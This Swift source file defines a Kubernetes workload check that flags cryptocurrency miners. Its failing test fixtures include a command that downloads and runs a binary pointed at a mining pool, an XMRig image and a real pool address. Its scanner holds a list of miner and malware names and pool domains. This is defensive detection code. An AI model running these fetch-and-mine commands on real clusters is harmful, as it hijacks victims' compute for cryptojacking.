internal import Documents
internal import Findings
internal import Kubernetes

struct NoMiner: WorkloadCheck {
  static let about = About(
    id: "threat/cryptojacking",
    severity: .high,
    title: "Run no miner of crypto-currencies",
    why: """
      Mining on stolen processors is what most intruders of clusters come for. A miner in a manifest is \
      theirs already, or an order that the owner of the bill should know of.
      """,
    scope: .pods,
    needs: ["what the containers use over time"],
    fails: [
      .pod(
        "by the image",
        "containers:\n- name: web\n  image: ⟦docker.io/example/XMRig:6⟧"),
      .pod(
        "by the pool, in the middle of a script",
        """
        containers:
        - name: web
          image: example.com/web:1
          command: [sh, -c]
          args:
          - ⟦"curl -s example.com/w > w; ./w -o stratum+tcp://pool.example.com:3333"⟧
        """),
      .pod(
        "by a setting",
        """
        containers:
        - name: web
          image: example.com/web:1
          env:
          - name: POOL
            value: ⟦gulf.moneroocean.stream:10128⟧
        """),
    ],
    passes: [
      .pod(
        "other programs",
        """
        containers:
        - name: web
          image: example.com/process-miner:1
          args: [--stratum=2, "a+b", "monero-price"]
          env:
          - name: NODE
            valueFrom:
              fieldRef:
                fieldPath: spec.nodeName
        """),
      .pod(
        "no lists",
        """
        containers:
        - name: web
          image: null
          args: xmr
          env: []
        """),
    ])

  /// That no miner calls itself one says nothing: for a pass it takes the figures of the running cluster.
  func applies(to workload: Workload, in context: Context) -> Bool {
    workload.containers.contains { container in
      var found = false
      Self.forEachSign(in: container) { _, _ in found = true }
      return found
    }
  }

  func check(_ workload: Workload, in context: Context, report: Reporter) {
    for container in workload.containers {
      report.turn(to: container)
      Self.forEachSign(in: container) { place, sign in
        report(
          "runs a miner: \(sign)", at: .value(place),
          remedy: .advice("Stop it, and find out who put it there"))
      }
    }
    report.turn(to: nil)
  }

  private static func forEachSign(in container: Container, _ body: (Node, StaticString) -> Void) {
    func look(at node: Node?) {
      if let node, let sign = node.withText(sign) ?? nil { body(node, sign) }
    }
    look(at: container.node["image"])
    for key: StaticString in ["command", "args"] {
      guard let words = container.node[key] else { continue }
      for word in words.children { look(at: word) }
    }
    guard let variables = container.node["env"] else { return }
    for variable in variables.children { look(at: variable["value"]) }
  }

  /// The first sign of a miner in a text, whatever its case.
  private static func sign(in text: UnsafeBufferPointer<UInt8>) -> StaticString? {
    for i in text.indices {
      switch text[i] {
      case UInt8(ascii: "+"):
        if i >= 7, starts(text, i - 7, "stratum+") { return "stratum+" }
      case UInt8(ascii: "x"), UInt8(ascii: "X"):
        for sign: StaticString in ["xmrig", "xmr-stak"] where starts(text, i, sign) { return sign }
      case UInt8(ascii: "m"), UInt8(ascii: "M"):
        for sign: StaticString in ["moneroocean", "minexmr.", "minergate", "minerd "]
        where starts(text, i, sign) { return sign }
      case UInt8(ascii: "u"), UInt8(ascii: "U"):
        if i >= 1, starts(text, i - 1, "supportxmr.") { return "supportxmr." }
      case UInt8(ascii: "h"), UInt8(ascii: "H"):
        if starts(text, i, "hashvault.pro") { return "hashvault.pro" }
        if i >= 2, starts(text, i - 2, "ethminer") { return "ethminer" }
      case UInt8(ascii: "k"), UInt8(ascii: "K"):
        if starts(text, i, "kinsing") { return "kinsing" }
      case UInt8(ascii: "p"), UInt8(ascii: "P"):
        if i >= 4, starts(text, i - 4, "nanopool.org") { return "nanopool.org" }
        if i >= 1, starts(text, i - 1, "cpuminer") { return "cpuminer" }
      default: continue
      }
    }
    return nil
  }

  private static func starts(_ text: UnsafeBufferPointer<UInt8>, _ start: Int, _ sign: StaticString) -> Bool {
    let count = sign.utf8CodeUnitCount
    guard text.count - start >= count else { return false }
    for i in 0..<count {
      let byte = text[start + i]
      let lower = byte >= UInt8(ascii: "A") && byte <= UInt8(ascii: "Z") ? byte | 0x20 : byte
      if lower != sign.utf8Start[i] { return false }
    }
    return true
  }
}
